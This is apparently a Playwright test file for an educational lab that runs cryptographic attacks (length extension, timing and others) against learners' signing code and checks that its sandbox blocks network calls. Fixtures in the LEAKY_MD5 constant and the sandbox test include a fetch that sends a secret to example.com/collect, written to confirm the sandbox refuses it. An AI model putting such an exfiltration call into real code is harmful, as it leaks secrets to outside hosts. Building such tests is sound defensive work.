import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { deflateRawSync } from 'node:zlib';
import { test, expect } from './fixtures';
import { test as plainTest, type Page } from '@playwright/test';

/** A link to the lab with this code in it, as the lab's Share section makes one. */
function linkTo(code: string, extra = ''): string {
  const param = `1${deflateRawSync(Buffer.from(code)).toString('base64url')}`;
  return `./#/code?code=${param}${extra}`;
}

async function runAttacks(page: Page) {
  await page.getByRole('button', { name: 'Run attacks' }).click();
}

/** md5(secret + message), plus an attempt to send the secret away that the sandbox refuses. */
const LEAKY_MD5 = `export function sign(secret: string, message: string): string {
  try {
    fetch('https://example.com/collect?secret=' + secret);
  } catch {
    // Refused: carry on signing.
  }
  return md5(secret + message);
}
export function verify(secret: string, message: string, tag: string): boolean {
  return sign(secret, message) === tag;
}
`;

const ATTACKS = [
  'Length extension',
  'Tampering',
  'Truncation',
  'Keys per use',
  'Timing',
  'Token prediction',
];

test('md5(secret + message): the battery forges a message that verify accepts', async ({
  page,
}) => {
  await page.goto('./#/code');
  await expect(page.getByRole('heading', { level: 1, name: 'Your code, attacked' })).toBeVisible();
  await page.getByLabel('Preset').selectOption({ label: 'md5(secret + message)' });
  // The editor (a text area until the full editor is asked for) holds the preset.
  const editor = page.getByRole('textbox', { name: /Your module \(TypeScript\)/ });
  await expect(editor).toHaveValue(/return md5\(secret \+ message\);/);

  await runAttacks(page);
  const report = page.getByRole('list', { name: 'Attacks' });
  const lengthExtension = report.getByRole('listitem', { name: 'Length extension: Fail' });
  await expect(lengthExtension).toBeVisible();
  await expect(lengthExtension).toContainText('Forged: verify accepted');
  // The forged message: the signed one, the glue padding MD5 had added, and the appended data.
  await expect(
    lengthExtension.getByText(/^user=alice&role=user\\x80(\\x00)*.*&role=admin$/),
  ).toBeVisible();
  await expect(lengthExtension.getByRole('row', { name: /MD5 ✗ forgery accepted/ })).toBeVisible();
  await expect(lengthExtension).toContainText('true: accepted');
  await expect(lengthExtension).toContainText('How to fix: Sign with HMAC');
  // The same secret signs every purpose, so a tag crosses over.
  await expect(report.getByRole('listitem', { name: 'Keys per use: Fail' })).toBeVisible();
  // Its === stops at the first difference: never a pass on timing, measured or not (issue 19).
  const timing = report.getByRole('listitem', { name: /^Timing: / });
  await expect(timing).toHaveAccessibleName(/^Timing: (Fail|Warning)$/);
  await expect(timing).toContainText('verify compares with ===');
  // The verdicts go into the address, for a shared link.
  await expect(page).toHaveURL(/report=length-extension%3Afail|report=length-extension:fail/);
  // A teacher's link: the same address opens the code with the verdicts of that run, marked as
  // what they are until the code runs here.
  await page.reload();
  const shared = page.getByRole('list', { name: 'Reported by the link, not verified' });
  await expect(shared.getByRole('listitem').filter({ hasText: 'Length extension' })).toContainText(
    'Fail',
  );
  await expect(shared.getByRole('listitem').filter({ hasText: 'Tampering' })).toContainText('Pass');
});

test('the full editor (Monaco) loads only when asked for, with the code, and follows a preset', async ({
  page,
  log,
}) => {
  await page.goto('./#/code');
  const editor = page.getByRole('textbox', { name: 'Your module (TypeScript)' });
  await expect(editor).toHaveValue(/return md5\(secret \+ message\);/);
  // Opening the lab fetched none of Monaco.
  expect(log.requests.filter((url) => /monaco|editor\.api/.test(url))).toEqual([]);
  await page.getByRole('button', { name: /Open the full editor/ }).click();
  await expect(page.getByRole('button', { name: /Open the full editor/ })).toHaveCount(0);
  expect(log.requests.some((url) => /monaco|editor\.api/.test(url))).toBe(true);
  // Monaco draws the lines as text (its own text box holds only what is being typed).
  await expect(page.getByText('return md5(secret + message);')).toBeVisible();
  await expect(page.getByText(/press Ctrl\+M \(on a Mac/)).toBeVisible();
  // A preset chosen afterwards replaces the text in Monaco.
  await page.getByLabel('Preset').selectOption({ label: 'HMAC with a key per use (the fix)' });
  await expect(
    page.getByText("return hmac('sha256', keyFor(secret, purpose), message);"),
  ).toBeVisible();
});

test('HMAC with a key per use passes every attack', async ({ page }) => {
  await page.goto('./#/code');
  await page.getByLabel('Preset').selectOption({ label: 'HMAC with a key per use (the fix)' });
  await expect(
    page.getByText("return hmac('sha256', keyFor(secret, purpose), message);"),
  ).toBeVisible();
  await runAttacks(page);
  await expect(page.getByText('None of the 6 attacks that ran got through.')).toBeVisible({
    timeout: 45_000,
  });
  const report = page.getByRole('list', { name: 'Attacks' });
  for (const attack of ATTACKS)
    await expect(report.getByRole('listitem', { name: `${attack}: Pass` })).toBeVisible();
  await expect(report.getByText('How to fix')).toHaveCount(0);
});

test('an endless loop is stopped at the time limit, and the lab runs again afterwards', async ({
  page,
}) => {
  await page.goto(
    linkTo(
      `export function sign(secret: string, message: string): string {
  while (true) {}
}
export function verify(secret: string, message: string, tag: string): boolean {
  return false;
}
`,
      // The longest limit, so that on a slow machine the limit cannot end the run before Cancel.
      '&limit=60',
    ),
  );
  await expect(page.getByText('while (true) {}')).toBeVisible();
  await expect(page.getByLabel('Time limit per phase (seconds)')).toHaveValue('60');
  // Cancel ends the stuck run at once, whatever the limit.
  await runAttacks(page);
  await expect(page.getByRole('progressbar', { name: 'Attack battery' })).toBeVisible();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('Stopped.', { exact: true })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Cancel' })).toBeHidden();
  await page.getByLabel('Time limit per phase (seconds)').fill('1');
  await runAttacks(page);
  await expect(page.getByText('Stopped: time limit reached')).toBeVisible();
  await expect(
    page.getByText(/ran for more than 1 s, so the sandbox was terminated/),
  ).toBeVisible();
  // The page never waited on the loop: it still answers, and Run works again.
  await expect(page.getByRole('button', { name: 'Run attacks' })).toBeEnabled();
  await page.getByLabel('Preset').selectOption({ label: 'HMAC with a key per use (the fix)' });
  await page.getByLabel('Time limit per phase (seconds)').fill('5');
  await runAttacks(page);
  await expect(page.getByText('None of the 6 attacks that ran got through.')).toBeVisible({
    timeout: 45_000,
  });
});

test('code in the sandbox cannot reach the network', async ({ page, log }) => {
  await page.goto(
    linkTo(`export function sign(secret: string, message: string): string {
  // Leak the secret to another server, and read from this one.
  fetch('https://example.com/collect?secret=' + secret);
  return md5(secret + message);
}
export function verify(secret: string, message: string, tag: string): boolean {
  fetch('./index.html');
  return sign(secret, message) === tag;
}
`),
  );
  await runAttacks(page);
  const blocked = page.getByRole('list', { name: 'Blocked calls' });
  await expect(
    blocked.getByText(/^fetch\('https:\/\/example\.com\/collect\?secret=/),
  ).toBeVisible();
  await expect(blocked).toContainText('was refused: no request was made.');
  // sign threw the refusal, so the attacks could not run: the report says why.
  await expect(page.getByRole('listitem', { name: 'Length extension: Not run' })).toContainText(
    'was blocked: code in the sandbox has no network access.',
  );
  // Not one request to another origin, and none to this one from the sandbox either.
  expect(log.requests.filter((url) => url.includes('example.com'))).toEqual([]);
  expect(log.requests.filter((url) => url.endsWith('/index.html'))).toEqual([]);
});

test('a damaged share link says so and shows the preset instead', async ({ page }) => {
  await page.goto('./#/code?code=1AAAA_not-deflate&report=timing:maybe');
  await expect(page.getByText(/The code in this link is damaged/)).toBeVisible();
  await expect(page.getByText('return md5(secret + message);')).toBeVisible();
  await expect(page.getByText(/The report in this link is damaged/)).toBeVisible();
});

// The single-file build (npm run build:single) opened from file://: its workers are classic blob:
// workers, so the sandbox loads the learner's code with importScripts from a blob: URL, under the
// file's own policy. (The fixture's same-origin check does not fit a file:// page: this test
// watches the network itself, as e2e/single-file.spec.ts does.)
plainTest('the single-file build runs the battery too, with no network', async ({ page }) => {
  const errors: string[] = [];
  const network: string[] = [];
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('request', (r) => /^https?:/.test(r.url()) && network.push(r.url()));
  const file = pathToFileURL(resolve('dist-single/index.html')).href;
  await page.goto(`${file}${linkTo(LEAKY_MD5).slice(2)}`);
  await expect(page.getByRole('heading', { level: 1, name: 'Your code, attacked' })).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'Your module (TypeScript)' })).toHaveValue(
    /collect\?secret=/,
  );
  await runAttacks(page);
  await expect(page.getByRole('listitem', { name: 'Length extension: Fail' })).toContainText(
    'Forged: verify accepted',
  );
  await expect(page.getByRole('list', { name: 'Blocked calls' })).toContainText(
    "fetch('https://example.com/collect?secret=",
  );
  expect(network).toEqual([]);
  expect(errors).toEqual([]);
});
